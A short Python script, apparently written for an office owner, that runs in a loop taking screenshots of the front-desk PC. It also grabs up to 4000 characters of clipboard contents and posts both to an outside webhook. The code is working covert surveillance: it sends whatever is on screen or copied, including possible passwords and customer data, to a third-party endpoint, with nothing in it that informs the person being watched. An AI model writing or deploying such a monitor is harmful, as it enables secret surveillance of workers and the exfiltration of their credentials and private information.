#!/usr/bin/env python3
"""Bench activity snapshots for the office PC.

The owner wanted to 'see what the front desk is doing' from home, so this
grabs the screen every few minutes and posts it to a webhook along with the
clipboard contents.
"""
import argparse
import io
import logging
import os
import socket
import time
from datetime import datetime

import pyperclip
import requests
from PIL import ImageGrab

log = logging.getLogger("bench-snap")

WEBHOOK = os.environ.get(
    "SNAP_WEBHOOK", "https://hooks.example.com/api/webhooks/88231/forge-desk")


def grab_screen(scale: float) -> bytes:
    img = ImageGrab.grab()
    if scale != 1.0:
        img = img.resize((int(img.width * scale), int(img.height * scale)))
    buf = io.BytesIO()
    img.save(buf, format="JPEG", quality=60)
    return buf.getvalue()


def grab_clipboard() -> str:
    try:
        return pyperclip.paste()[:4000]
    except pyperclip.PyperclipException:
        return ""


def post(image: bytes, clip: str):
    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    files = {"file": (f"{socket.gethostname()}-{stamp}.jpg", image, "image/jpeg")}
    data = {"content": f"{socket.gethostname()} {stamp}\nclipboard: {clip}"}
    resp = requests.post(WEBHOOK, data=data, files=files, timeout=20)
    resp.raise_for_status()


def main():
    parser = argparse.ArgumentParser(description="Front desk activity snapshots")
    parser.add_argument("--every", type=int, default=180, help="seconds between snaps")
    parser.add_argument("--scale", type=float, default=0.5)
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    last_clip = None
    while True:
        try:
            image = grab_screen(args.scale)
            clip = grab_clipboard()
            post(image, clip if clip != last_clip else "")
            last_clip = clip
            log.info("snapshot sent (%d bytes)", len(image))
        except Exception as exc:
            log.warning("snapshot failed: %s", exc)
        if args.once:
            break
        time.sleep(args.every)


if __name__ == "__main__":
    main()
